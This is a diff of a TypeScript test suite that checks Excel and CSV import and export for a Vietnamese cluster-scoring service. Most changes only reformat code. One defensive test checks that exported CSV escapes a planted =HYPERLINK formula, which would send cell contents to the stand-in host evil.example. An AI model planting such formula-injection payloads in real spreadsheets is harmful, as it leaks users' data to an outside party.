@@ -28,8 +28,23 @@ describe('Excel in and out', () => {
     await registerCluster(service);
     await openYear(service, 2022, 'tan-chau', 'tri-ton');
     for (const [i, unitId] of MEMBERS.entries()) await score(service, 2022, unitId, 'CLUSTER', [30 + i, 30.25, 15]);
-    await ok(service, 'draftAgreement', { clusterId: CLUSTER, year: 2022, theme: 'Chủ đề', commitments: [], legalBases: ['15/HD-VKSTC'], ceremonyDate: '2022-02-22', hostUnitId: 'tan-chau' });
-    await ok(service, 'signAgreement', { clusterId: CLUSTER, year: 2022, unitId: 'tan-chau', signatoryName: 'Nguyễn Kiến Thịnh', signatoryPosition: 'Viện trưởng', signedOn: '2022-02-22' });
+    await ok(service, 'draftAgreement', {
+      clusterId: CLUSTER,
+      year: 2022,
+      theme: 'Chủ đề',
+      commitments: [],
+      legalBases: ['15/HD-VKSTC'],
+      ceremonyDate: '2022-02-22',
+      hostUnitId: 'tan-chau',
+    });
+    await ok(service, 'signAgreement', {
+      clusterId: CLUSTER,
+      year: 2022,
+      unitId: 'tan-chau',
+      signatoryName: 'Nguyễn Kiến Thịnh',
+      signatoryPosition: 'Viện trưởng',
+      signedOn: '2022-02-22',
+    });
   });
   afterAll(() => service.stop());
 
@@ -41,9 +56,22 @@ describe('Excel in and out', () => {
     const sheet = (await workbook(response)).getWorksheet('Xếp hạng')!;
     const rows = sheetRows(sheet);
     expect(rows[0][0]).toMatch(/Bảng xếp hạng thi đua năm 2022 – Cụm thi đua số 2/);
-    expect(rows[1]).toEqual(['Hạng', 'Mã đơn vị', 'Đơn vị', 'Tự chấm', 'Cụm chấm', 'Hội đồng duyệt', 'Tổng điểm tính', 'Nguồn điểm tính (giai đoạn: số tiêu chí)', 'Xếp loại', 'Tên hiện nay']);
+    expect(rows[1]).toEqual([
+      'Hạng',
+      'Mã đơn vị',
+      'Đơn vị',
+      'Tự chấm',
+      'Cụm chấm',
+      'Hội đồng duyệt',
+      'Tổng điểm tính',
+      'Nguồn điểm tính (giai đoạn: số tiêu chí)',
+      'Xếp loại',
+      'Tên hiện nay',
+    ]);
     expect(sheet.getColumn(7).numFmt).toBe('0.00');
-    const model = (await service.gql(`{ rankings(clusterId: "${CLUSTER}", year: 2022) { units { unitId rank effectiveTotal classification } } }`)).data!.rankings.units;
+    const model = (
+      await service.gql(`{ rankings(clusterId: "${CLUSTER}", year: 2022) { units { unitId rank effectiveTotal classification } } }`)
+    ).data!.rankings.units;
     const exported = rows.slice(2).map((r) => ({ unitId: r[1], rank: r[0], effectiveTotal: r[6], classification: r[8] }));
     expect(exported).toEqual(model);
   });
@@ -54,16 +82,38 @@ describe('Excel in and out', () => {
     const bytes = Buffer.from(await response.arrayBuffer());
     expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
     const lines = bytes.subarray(3).toString('utf8').trim().split('\r\n');
-    expect(lines[0]).toBe('Hạng,Mã đơn vị,Đơn vị,Tự chấm,Cụm chấm,Hội đồng duyệt,Tổng điểm tính,Nguồn điểm tính (giai đoạn: số tiêu chí),Xếp loại,Tên hiện nay');
-    expect(lines[1]).toBe('1,chau-doc,Viện kiểm sát nhân dân thành phố Châu Đốc,,79.25,,79.25,Cụm chấm: 3/5,Tiên tiến,Viện kiểm sát nhân dân thành phố Châu Đốc');
+    expect(lines[0]).toBe(
+      'Hạng,Mã đơn vị,Đơn vị,Tự chấm,Cụm chấm,Hội đồng duyệt,Tổng điểm tính,Nguồn điểm tính (giai đoạn: số tiêu chí),Xếp loại,Tên hiện nay',
+    );
+    expect(lines[1]).toBe(
+      '1,chau-doc,Viện kiểm sát nhân dân thành phố Châu Đốc,,79.25,,79.25,Cụm chấm: 3/5,Tiên tiến,Viện kiểm sát nhân dân thành phố Châu Đốc',
+    );
   });
 
   it("exports a unit's score sheet and the cluster-year summary", async () => {
     const sheet = (await workbook(await get(`/exports/score-sheet/${CLUSTER}/2022/tri-ton.xlsx`))).getWorksheet('Bảng điểm')!;
     const rows = sheetRows(sheet);
-    expect(rows[2]).toEqual(['Thực hiện nhiệm vụ chuyên môn', 'c1', 'Chỉ tiêu nghiệp vụ theo Nghị quyết 96/2019/QH14', 'Tiêu chí', 40, undefined, 31, undefined, 31, 'Cụm chấm']);
+    expect(rows[2]).toEqual([
+      'Thực hiện nhiệm vụ chuyên môn',
+      'c1',
+      'Chỉ tiêu nghiệp vụ theo Nghị quyết 96/2019/QH14',
+      'Tiêu chí',
+      40,
+      undefined,
+      31,
+      undefined,
+      31,
+      'Cụm chấm',
+    ]);
     const summary = await workbook(await get(`/exports/cluster-year/${CLUSTER}/2022.xlsx`));
-    expect(summary.worksheets.map((w) => w.name)).toEqual(['Thành viên', 'Giao ước', 'Đăng ký danh hiệu', 'Xếp hạng', 'Bình xét', 'Khen thưởng']);
+    expect(summary.worksheets.map((w) => w.name)).toEqual([
+      'Thành viên',
+      'Giao ước',
+      'Đăng ký danh hiệu',
+      'Xếp hạng',
+      'Bình xét',
+      'Khen thưởng',
+    ]);
     const signatures = sheetRows(summary.getWorksheet('Giao ước')!);
     expect(signatures[0][0]).toMatch(/ký ngày 22\/02\/2022/);
     expect(signatures[2].slice(0, 3)).toEqual(['Viện kiểm sát nhân dân thị xã Tân Châu', 'Nguyễn Kiến Thịnh', 'Viện trưởng']);
@@ -120,7 +170,14 @@ describe('Excel in and out', () => {
       await ok(service, 'openClusterYear', { ...year, memberUnitIds: ['tan-chau', 'don-vi-doc'] });
       await ok(service, 'rotateChair', { ...year, chairUnitId: 'don-vi-doc', viceChairUnitId: 'tan-chau' });
       await ok(service, 'adoptCriteriaSet', { ...year, criteriaSetId: 'bo-doc' });
-      await ok(service, 'draftAgreement', { ...year, theme: PLANTED.theme, commitments: [], legalBases: ['15/HD-VKSTC'], ceremonyDate: '2023-02-22', hostUnitId: 'tan-chau' });
+      await ok(service, 'draftAgreement', {
+        ...year,
+        theme: PLANTED.theme,
+        commitments: [],
+        legalBases: ['15/HD-VKSTC'],
+        ceremonyDate: '2023-02-22',
+        hostUnitId: 'tan-chau',
+      });
       const officer = await service.token('can-bo-doc', { role: Role.UNIT_OFFICER, unit: 'don-vi-doc', name: 'Cán bộ' });
       const signature = { signatoryName: PLANTED.signatoryName, signatoryPosition: PLANTED.signatoryPosition, signedOn: '2023-02-22' };
       await ok(service, 'signAgreement', { ...year, unitId: 'don-vi-doc', ...signature }, officer);
@@ -129,13 +186,25 @@ describe('Excel in and out', () => {
     });
 
     it('writes every planted text cell quoted behind a single quote; negative points stay numbers', async () => {
-      const paths = [`/exports/cluster-year/${CLUSTER}/2023.csv`, `/exports/rankings/${CLUSTER}/2023.csv`, `/exports/score-sheet/${CLUSTER}/2023/don-vi-doc.csv`, `/imports/score-sheet/${CLUSTER}/2023/template.csv`];
+      const paths = [
+        `/exports/cluster-year/${CLUSTER}/2023.csv`,
+        `/exports/rankings/${CLUSTER}/2023.csv`,
+        `/exports/score-sheet/${CLUSTER}/2023/don-vi-doc.csv`,
+        `/imports/score-sheet/${CLUSTER}/2023/template.csv`,
+      ];
       const csvs = await Promise.all(paths.map(async (path) => (await get(path)).text()));
       const all = csvs.flatMap(fields);
       expect(all.filter(dangerous)).toEqual([]);
       const raw = csvs.join('\n');
       expect(raw).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""Xem"")"`);
-      expect(all).toEqual(expect.arrayContaining([`'${PLANTED.signatoryPosition}`, `'${PLANTED.unitName}`, `'${PLANTED.criterionName}`, `'${PLANTED.sectionName}`]));
+      expect(all).toEqual(
+        expect.arrayContaining([
+          `'${PLANTED.signatoryPosition}`,
+          `'${PLANTED.unitName}`,
+          `'${PLANTED.criterionName}`,
+          `'${PLANTED.sectionName}`,
+        ]),
+      );
       const ranking = fields(csvs[1]);
       expect(ranking).toContain('-10.00');
       expect(csvs[1]).toMatch(/,-10\.00,/);
@@ -159,7 +228,11 @@ describe('Excel in and out', () => {
       return Buffer.from(await book.xlsx.writeBuffer());
     }
     const post = (body: Buffer | string, type: string, token = admin) =>
-      fetch(`${base()}/imports/score-sheet/${CLUSTER}/2022`, { method: 'POST', headers: { authorization: `Bearer ${token}`, 'content-type': type }, body });
+      fetch(`${base()}/imports/score-sheet/${CLUSTER}/2022`, {
+        method: 'POST',
+        headers: { authorization: `Bearer ${token}`, 'content-type': type },
+        body,
+      });
 
     it('reports every bad row with its number and reason, and records nothing', async () => {
       const file = await filledTemplate((rows) => {
@@ -193,7 +266,11 @@ describe('Excel in and out', () => {
       const response = await post(file, XLSX, officer);
       expect(response.status).toBe(200);
       expect(await response.json()).toMatchObject({ recorded: 3, corrected: 0 });
-      const history = (await service.gql(`{ scoreHistory(clusterId: "${CLUSTER}", year: 2022, unitId: "tan-chau", criterionId: "c1") { stage to actor { id } } }`)).data!.scoreHistory;
+      const history = (
+        await service.gql(
+          `{ scoreHistory(clusterId: "${CLUSTER}", year: 2022, unitId: "tan-chau", criterionId: "c1") { stage to actor { id } } }`,
+        )
+      ).data!.scoreHistory;
       expect(history).toContainEqual({ stage: 'SELF', to: 12.5, actor: { id: 'can-bo-tan-chau' } });
       const head = await service.store.headPosition();
       expect((await post(file, XLSX, officer)).status).toBe(422);
@@ -202,14 +279,20 @@ describe('Excel in and out', () => {
 
     it("refuses rows outside the officer's scope, and takes CSV with corrections that give a reason", async () => {
       const officer = await service.token('can-bo-an-phu', { role: Role.UNIT_OFFICER, unit: 'an-phu' });
-      const csv = '\uFEFFMã đơn vị,Mã tiêu chí,Giai đoạn,Điểm,Minh chứng,Lý do sửa\r\nan-phu,c1,Tự chấm,20,,\r\ntri-ton,c1,Tự chấm,20,,\r\n';
+      const csv =
+        '\uFEFFMã đơn vị,Mã tiêu chí,Giai đoạn,Điểm,Minh chứng,Lý do sửa\r\nan-phu,c1,Tự chấm,20,,\r\ntri-ton,c1,Tự chấm,20,,\r\n';
       const refused = await post(csv, 'text/csv', officer);
-      expect(((await refused.json()) as any).errors[0].extensions.rows).toEqual([{ row: 3, code: 'FORBIDDEN', reason: expect.any(String) }]);
+      expect(((await refused.json()) as any).errors[0].extensions.rows).toEqual([
+        { row: 3, code: 'FORBIDDEN', reason: expect.any(String) },
+      ]);
 
       const chairOffice = await service.token('van-phong-tan-chau', { role: Role.CLUSTER_OFFICER, unit: 'tan-chau' });
-      const corrections = 'Mã đơn vị,Mã tiêu chí,Giai đoạn,Điểm,Minh chứng,Lý do sửa\r\ntri-ton,c1,Cụm chấm,32.5,Biên bản thẩm định,Thẩm định lại\r\ntri-ton,c2,cum cham,31,,\r\n';
+      const corrections =
+        'Mã đơn vị,Mã tiêu chí,Giai đoạn,Điểm,Minh chứng,Lý do sửa\r\ntri-ton,c1,Cụm chấm,32.5,Biên bản thẩm định,Thẩm định lại\r\ntri-ton,c2,cum cham,31,,\r\n';
       const missingReason = await post(corrections, 'text/csv', chairOffice);
-      expect(((await missingReason.json()) as any).errors[0].extensions.rows).toEqual([{ row: 3, code: 'REASON_REQUIRED', reason: expect.stringContaining('Lý do sửa') }]);
+      expect(((await missingReason.json()) as any).errors[0].extensions.rows).toEqual([
+        { row: 3, code: 'REASON_REQUIRED', reason: expect.stringContaining('Lý do sửa') },
+      ]);
       const fixed = corrections.replace('tri-ton,c2,cum cham,31,,', 'tri-ton,c2,cum cham,31,,Nhập nhầm');
       const response = await post(fixed, 'text/csv', chairOffice);
       expect(await response.json()).toMatchObject({ recorded: 0, corrected: 2 });
